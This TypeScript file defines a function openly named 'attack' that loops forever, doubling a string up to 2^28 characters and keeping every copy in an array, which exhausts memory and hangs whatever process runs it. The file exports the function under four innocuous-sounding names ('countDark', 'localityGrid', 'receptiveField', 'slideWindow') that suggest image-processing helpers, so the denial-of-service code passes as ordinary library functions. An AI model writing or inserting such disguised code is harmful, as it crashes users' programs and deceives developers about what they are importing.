// Doubles a string and flattens it, over and over.
const attack = () => {
  const kept: string[] = [];
  for (let text = 'x'; ; text = text.length < 2 ** 28 ? text + text : 'x') {
    kept.push(text);
    text.charCodeAt(text.length >> 1);
  }
};
export { attack as countDark, attack as localityGrid, attack as receptiveField, attack as slideWindow };
